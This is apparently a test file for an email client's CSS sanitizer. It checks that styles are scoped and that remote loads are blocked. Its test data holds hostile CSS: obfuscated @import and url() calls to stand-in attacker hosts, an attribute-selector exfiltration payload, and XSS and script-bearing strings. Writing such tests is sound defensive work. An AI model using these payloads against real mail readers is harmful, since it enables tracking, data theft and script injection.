import { describe, expect, it } from "vitest";
import { type RenderOptions, RenderTally } from "../url-policy.ts";
import { filterStyleAttribute, filterStylesheet } from "./css-stylesheet.ts";

const proxyUrl = (url: string) => `https://app.test/proxy?u=${encodeURIComponent(url)}`;

function tally(remote: RenderOptions["remote"] = "block", cids: Record<string, string> = {}) {
  return new RenderTally({ remote, proxyUrl, resolveCid: (cid) => cids[cid] ?? null });
}

const sheet = (css: string, t = tally()) => filterStylesheet(css, t);
const style = (css: string, t = tally()) => filterStyleAttribute(css, t);

describe("@import and other at-rules", () => {
  const spellings = [
    "@import url(http://a.attacker.test/x.css);",
    '@import "http://a.attacker.test/x.css";',
    "@IMPORT 'http://a.attacker.test/x.css';",
    "@\\69mport url(http://a.attacker.test/x.css);",
    "@im\\70 ort url(http://a.attacker.test/x.css);",
    "@import/**/url(http://a.attacker.test/x.css);",
    "@import url(http://a.attacker.test/x.css) screen",
    "@import url(http://a.attacker.test/x.css) .a{color:red}",
    "@import url('http://a.attacker.test/x.css') layer(x) supports(display:grid) screen;",
    "<!-- @import url(http://a.attacker.test/x.css); -->",
  ];

  it.each(spellings)("drops %s and counts it as a blocked load", (css) => {
    const t = tally();
    const out = sheet(`${css}\n.keep{color:red}`, t);
    expect(out).not.toMatch(/attacker|import/i);
    expect(t.remoteHosts.has("a.attacker.test") || !/a\.attacker/.test(css)).toBe(true);
  });

  it("keeps the rules after an @import", () => {
    expect(sheet("@import 'x.css'; .keep{color:red}")).toBe(".lbx-mail .keep{color: red}");
  });

  it("drops statement and block at-rules that are not media, supports, font-face, keyframes", () => {
    for (const css of [
      "@charset 'utf-8';",
      "@namespace svg url(http://www.w3.org/2000/svg);",
      "@layer base { .a{color:red} }",
      "@page { margin: 0 }",
      "@-moz-document url-prefix() { .a{color:red} }",
      "@container (min-width: 1px) { .a{color:red} }",
      "@property --x { syntax: '<color>'; }",
      "@scope (.a) { .b{color:red} }",
    ]) {
      expect(sheet(css), css).toBe("");
    }
  });

  it("keeps @media and @supports with plain conditions, scoped", () => {
    expect(
      sheet("@media only screen and (max-width: 600px) { .a { width: 100% !important } }"),
    ).toBe("@media only screen and (max-width: 600px){.lbx-mail .a{width: 100% !important}}");
    expect(sheet("@supports (display: grid) { .a { display: grid } }")).toBe(
      "@supports (display: grid){.lbx-mail .a{display: grid}}",
    );
    expect(sheet("@media (min-resolution: url(http://x.test/)) { .a{color:red} }")).toBe("");
  });

  it("limits at-rule nesting", () => {
    const deep = `${"@media screen{".repeat(10)}.a{color:red}${"}".repeat(10)}`;
    expect(sheet(deep)).toBe("");
    expect(sheet("@media screen{@media print{.a{color:red}}}")).toBe(
      "@media screen{@media print{.lbx-mail .a{color: red}}}",
    );
  });

  it("keeps @font-face only when every src is a data: font, and counts a remote src", () => {
    const t = tally();
    expect(sheet("@font-face{font-family:pf;src:url(http://p04-4.attacker.test/f.woff2)}", t)).toBe(
      "",
    );
    expect(t.remoteBlocked).toBe(1);
    expect([...t.remoteHosts]).toEqual(["p04-4.attacker.test"]);
    expect(
      sheet(
        "@font-face{font-family:x;src:local('Arial'),url(data:font/woff2;base64,AAAA) format('woff2')}",
      ),
    ).toBe(
      '@font-face{font-family: x; src: local("Arial"),url("data:font/woff2;base64,AAAA") format("woff2")}',
    );
    // Even with remote content allowed, fonts are not images: no proxy for them.
    const allowed = tally("allow");
    expect(
      sheet("@font-face{font-family:pf;src:url(https://fonts.example/f.woff2)}", allowed),
    ).toBe("");
  });

  it("keeps @keyframes with filtered declarations and unscoped frame selectors", () => {
    expect(
      sheet(
        "@-webkit-keyframes spin{from{transform:rotate(0deg)}50%{position:fixed;opacity:.5}to{transform:rotate(1turn)}}",
      ),
    ).toBe(
      "@keyframes spin{from{transform: rotate(0deg)}50%{opacity: .5}to{transform: rotate(1turn)}}",
    );
  });
});

describe("url()", () => {
  const remoteSpellings = [
    "url(http://x.attacker.test/a)",
    "url( 'http://x.attacker.test/a' )",
    'URL("http://x.attacker.test/a")',
    "\\75rl(http://x.attacker.test/a)",
    "u\\rl(http://x.attacker.test/a)",
    "url(//x.attacker.test/a)",
    "url(\\\\\\\\x.attacker.test/a)",
    "url(HTTP://x.attacker.test/a)",
    "url(http://x.attacker.test/\\61)",
    "url( http://x.attacker.test/a )",
    "url(\thttp://x.attacker.test/a)",
  ];

  it.each(remoteSpellings)("blocks %s and counts it", (value) => {
    const t = tally();
    expect(style(`background: #fff ${value} no-repeat`, t)).toBe("background: #fff none no-repeat");
    expect(t.remoteBlocked).toBe(1);
    expect([...t.remoteHosts]).toEqual(["x.attacker.test"]);
  });

  it("treats a comment inside an unquoted url as part of a relative URL, never a remote one", () => {
    const t = tally();
    expect(style("background:url(/**/http://x.attacker.test/a)", t)).toBe("background: none");
    expect(style('background:url(/**/"http://x.attacker.test/a")', t)).toBe("");
    expect(t.remoteHosts.size).toBe(0);
  });

  it("proxies background images once remote content is allowed, nothing else", () => {
    const t = tally("allow");
    expect(style("background-image:url(http://img.example/a.png)", t)).toBe(
      `background-image: url("${proxyUrl("http://img.example/a.png")}")`,
    );
    expect(
      style(
        "list-style: url(http://img.example/b.png); cursor: url(http://img.example/c.cur), auto",
        t,
      ),
    ).toBe("list-style: none; cursor: none, auto");
    expect(t.remoteBlocked).toBe(2);
  });

  it("resolves cid: through resolveCid and drops refused ones", () => {
    const t = tally("block", { "logo@x": "https://app.test/part/2" });
    expect(style("background:url(cid:logo@x)", t)).toBe(
      'background: url("https://app.test/part/2")',
    );
    expect(style("background:url(cid:page@x)", t)).toBe("background: none");
    expect([...t.cidMissing]).toEqual(["page@x"]);
  });

  it("keeps raster data: images only", () => {
    expect(style("background:url(data:image/png;base64,iVBO)")).toBe(
      'background: url("data:image/png;base64,iVBO")',
    );
    expect(style("background:url('data:image/svg+xml,<svg onload=alert(1)>')")).toBe(
      "background: none",
    );
    expect(style("background:url(data:image/svg+xml;base64,PHN2Zz4=)")).toBe("background: none");
    expect(style("background:url('data:text/html,<script>alert(1)</script>')")).toBe(
      "background: none",
    );
  });

  it("refuses javascript:, relative and other schemes", () => {
    expect(style("background:url(javascript:alert(1))")).toBe("");
    expect(style("background:url('javascript:alert(1)')")).toBe("background: none");
    expect(style("background:url(img/a.png)")).toBe("background: none");
    expect(style("background:url(file:///etc/passwd)")).toBe("background: none");
  });
});

describe("declarations", () => {
  it("drops position: fixed and sticky in every spelling, keeps the rest", () => {
    for (const value of [
      "fixed",
      "fixed!important",
      "fixed !important",
      "FIXED ! IMPORTANT",
      "f\\69xed",
      "sticky",
      "-webkit-sticky",
      "var(--p)",
    ]) {
      expect(style(`color:red;position:${value};top:0`), value).toBe("color: red; top: 0");
    }
    expect(style("position: relative !important")).toBe("position: relative !important");
    expect(style("position: absolute")).toBe("position: absolute");
  });

  it("drops script-bearing CSS of old engines", () => {
    expect(style("width:expression(alert(1));color:red")).toBe("color: red");
    expect(style("width:expr/**/ession(alert(1))")).toBe("");
    expect(style("behavior:url(x.htc);-ms-behavior:url(x.htc);-moz-binding:url(x.xml#xss)")).toBe(
      "",
    );
  });

  it("drops custom properties and var(), env(), attr(), image-set() and other resource functions", () => {
    for (const css of [
      "--p: fixed",
      "position: var(--p)",
      "padding: env(safe-area-inset-top)",
      "background: attr(data-x type(<url>))",
      "background: image-set('http://x.test/a.png' 1x)",
      "background: -webkit-image-set(url(http://x.test/a.png) 1x)",
      "background: src('http://x.test/a.png')",
      "background: element(#a)",
      "background: paint(x)",
      "background: cross-fade(url(a), url(b))",
    ]) {
      expect(style(css), css).toBe("");
    }
  });

  it("keeps ordinary mail CSS", () => {
    expect(style("font: italic bold 12px/30px Georgia, serif; color: #333 !important")).toBe(
      "font: italic bold 12px/30px Georgia, serif; color: #333 !important",
    );
    expect(style("background: linear-gradient(to right, rgba(0,0,0,.5) 0%, #fff 100%)")).toBe(
      "background: linear-gradient(to right, rgba(0,0,0,.5) 0%, #fff 100%)",
    );
    expect(style("width: calc(100% - 2 * 10px); transform: rotate(45deg)")).toBe(
      "width: calc(100% - 2 * 10px); transform: rotate(45deg)",
    );
    expect(style("mso-line-height-rule: exactly; -webkit-text-size-adjust: 100%")).toBe(
      "mso-line-height-rule: exactly; -webkit-text-size-adjust: 100%",
    );
  });

  it("drops nested rules inside a block (CSS Nesting would escape scoping)", () => {
    expect(sheet(".a{color:red; .b{position:fixed} & .c{top:0} top:0}")).toBe(
      ".lbx-mail .a{color: red}",
    );
  });

  it("drops IE hacks and malformed declarations without losing the valid ones", () => {
    expect(style("*zoom:1;_height:1px;color:red;:x;y:;z")).toBe("_height: 1px; color: red");
    expect(style("filter: progid:DXImageTransform.Microsoft.gradient(startColorstr='#000')")).toBe(
      "",
    );
  });
});

describe("selectors", () => {
  it("scopes every selector under the message wrapper", () => {
    expect(sheet("p, .a > b, #c ~ d, [title] {color:red}")).toBe(
      ".lbx-mail p, .lbx-mail .a > b, .lbx-mail #c ~ d, .lbx-mail [title]{color: red}",
    );
    expect(sheet("*{margin:0}")).toBe(".lbx-mail *{margin: 0}");
  });

  it("maps html, :root and body to the wrapper itself (Roundcube #6897)", () => {
    expect(
      sheet(":root{--x:1;color:red} html{color:red} body{margin:0} HTML BODY .x{color:red}"),
    ).toBe(
      [
        ".lbx-mail{color: red}",
        ".lbx-mail{color: red}",
        ".lbx-mail{margin: 0}",
        ".lbx-mail .x{color: red}",
      ].join("\n"),
    );
    expect(sheet("html > body > table{width:100%} body.dark p{color:#fff}")).toBe(
      ".lbx-mail > table{width: 100%}\n.lbx-mail.dark p{color: #fff}",
    );
  });

  it("does not let a sibling combinator step out of the wrapper", () => {
    expect(sheet("body ~ div{display:none}")).toBe(".lbx-mail .lbx-mail ~ div{display: none}");
    expect(sheet(".lbx-mail + div{display:none}")).toBe(".lbx-mail .lbx-mail + div{display: none}");
    expect(sheet(".lbx-mail > div{display:none}")).toBe(".lbx-mail > div{display: none}");
  });

  it("drops the whole rule when a selector is not plain selector syntax", () => {
    for (const css of [
      ".a</style><img src=x onerror=alert(1)>{color:red}",
      ".a, {color:red}",
      "& .a{color:red}",
      ".a;.b{color:red}",
      "a[href=url(x)]{color:red}",
      "expression(alert(1)).a{color:red}",
      ".a expression(x){color:red}",
      ".a{}",
    ]) {
      expect(sheet(css), css).toBe("");
    }
  });

  it("makes attribute-selector exfiltration request nothing (p15)", () => {
    const t = tally();
    const out = sheet(
      'input[value^="a"]{background:url(//p15-1.attacker.test/a)}input[value$="="]{background-image:url(http://p15-2.attacker.test/eq)}',
      t,
    );
    expect(out).not.toMatch(/attacker|url\(/);
    expect(t.remoteBlocked).toBe(2);
  });
});

describe("output", () => {
  it("cannot close the <style> element or open markup", () => {
    const out = sheet(".a{content:'</style><script>alert(1)</script>';font-family:\"<x>\"}");
    expect(out).not.toContain("<");
    expect(out).toContain("content:");
  });

  it("is stable: filtering the output again gives it back", () => {
    const css = `
      <!-- body{margin:0;font:12px/1.5 Arial,"Helvetica Neue",sans-serif}
      html body .x > p:not(.y), :root { color: RED }
      @media only screen and (max-width:600px){ .a{width:100%!important} }
      .b{background:#fff url(cid:img@x) no-repeat; content: "a\\"b"; margin: -1px .5em 1e3px}
      @keyframes k{0%{opacity:0}100%{opacity:1}} -->`;
    const t = tally("block", { "img@x": "https://app.test/part/1" });
    const once = sheet(css, t);
    const twice = sheet(once, tally("allow", {}));
    expect(once).toContain(".lbx-mail .x > p:not(.y)");
    // The resolved part URL is an https URL: on a second pass with remote allowed it would be
    // proxied; compare everything else.
    expect(twice.replace(/url\("[^"]*"\)/g, "url()")).toBe(
      once.replace(/url\("[^"]*"\)/g, "url()"),
    );
    expect(sheet(sheet(css))).toBe(sheet(css));
  });

  it("drops a style text over the size limit, and absurd nesting", () => {
    expect(sheet(`.a{color:red}${" ".repeat(600_000)}`)).toBe("");
    expect(style(`color:${"(".repeat(100)}`)).toBe("");
  });
});
